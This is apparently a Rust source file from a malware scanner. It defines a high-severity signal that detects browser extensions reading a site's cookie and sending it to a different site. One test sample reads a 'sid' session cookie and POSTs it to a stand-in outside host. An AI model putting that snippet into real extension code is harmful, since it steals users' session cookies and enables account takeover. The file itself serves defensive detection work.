//! `extension-cookie-to-stranger`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "extension-cookie-to-stranger",
    description: "The extension reads a site's cookie and sends it to a different site.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::SiteCookie]), one(&[Atom::SentAbroad, Atom::PostMethod, Atom::Post, Atom::Beacon])],
    within: 250,
    only_if: Some(reaches_stranger),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"chrome.tabs.onUpdated.addListener(()=>{chrome.cookies.get({url:'https://www.games.example/',name:'sid'},c=>{if(c)fetch('https://in.other.example.org/r',{method:'POST',body:c.value})})})"#,
        ],
        without: &[
            r#"chrome.cookies.get({url:'https://www.shop.example/',name:'sid'},c=>{fetch('https://api.shop.example/me',{method:'POST',body:c.value})})"#,
            r#"chrome.cookies.get({url:tab.url,name:'lang'},c=>{fetch('https://api.shop.example/me',{method:'POST',body:c.value})})"#,
        ],
    },
};

fn reaches_stranger(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 200);
    let read = near.words(&["get", "getAll"]).filter(|at| near.before(*at, 1) == "cookies");
    let sites: Vec<&str> = read.filter_map(|at| site_of(near, at)).take(8).collect();
    !sites.is_empty()
        && near.words(SENDS).filter(|at| near.is(at + 1, b'(')).any(|at| {
            let address =
                (at + 2..at + 6).find_map(|at| literal(near, at)).filter(|text| text.contains("//"));
            address.map(owner).is_some_and(|to| !to.is_empty() && sites.iter().all(|site| owner(site) != to))
        })
}

/// What sends, before its address.
const SENDS: &[&str] = &["fetch", "open", "post", "ajax", "sendBeacon", "axios"];

/// The site whose cookies are asked for.
fn site_of<'e>(near: Near<'e>, at: usize) -> Option<&'e str> {
    let key = (at + 1..at + 14).find(|at| matches!(near.word(*at), "url" | "domain"))?;
    if near.is(key + 1, b':') { literal(near, key + 2) } else { literal(near, key) }
        .filter(|site| site.contains('.'))
}

/// The text at a place, or that of the name that is there.
fn literal<'e>(near: Near<'e>, at: usize) -> Option<&'e str> {
    match near.kind(at)? {
        Kind::Str | Kind::Template => Some(near.word(at)),
        Kind::Name => near.values_of(near.word(at)).find_map(|value| near.text_at(value)),
        _ => None,
    }
}

/// The last two labels of the host of an address or a domain.
fn owner(text: &str) -> &str {
    let host = text.split_once("//").map_or(text, |(_, rest)| rest);
    let host = host.split(['/', ':', '?']).next().unwrap_or("").trim_start_matches('.');
    host.rmatch_indices('.').nth(1).map_or(host, |(dot, _)| &host[dot + 1..])
}
